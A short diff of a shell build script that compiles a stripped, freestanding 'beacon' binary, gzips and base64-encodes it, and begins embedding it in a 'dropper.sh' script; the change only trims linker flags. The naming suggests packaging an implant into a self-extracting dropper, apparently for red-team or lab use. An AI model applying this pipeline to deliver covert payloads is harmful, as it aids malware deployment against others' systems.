@@ -7,7 +7,7 @@ cd "$(dirname "$0")/linux"
 work=$(mktemp -d)
 trap 'rm -rf "$work"' EXIT
 clang-19 -Os -ffreestanding -fno-stack-protector -nostdlib -static -fuse-ld=lld-19 -fno-asynchronous-unwind-tables \
-    -Wl,--build-id=none -Wl,-s -Wl,-z,noseparate-code -Wl,-z,max-page-size=4096 --target=x86_64-linux-gnu beacon.c -o "$work/beacon"
+    -Wl,--build-id=none -Wl,-s --target=x86_64-linux-gnu beacon.c -o "$work/beacon"
 payload=$(gzip -9nc "$work/beacon" | base64 -w 76)
 cat > dropper.sh <<EOF
 #!/bin/bash
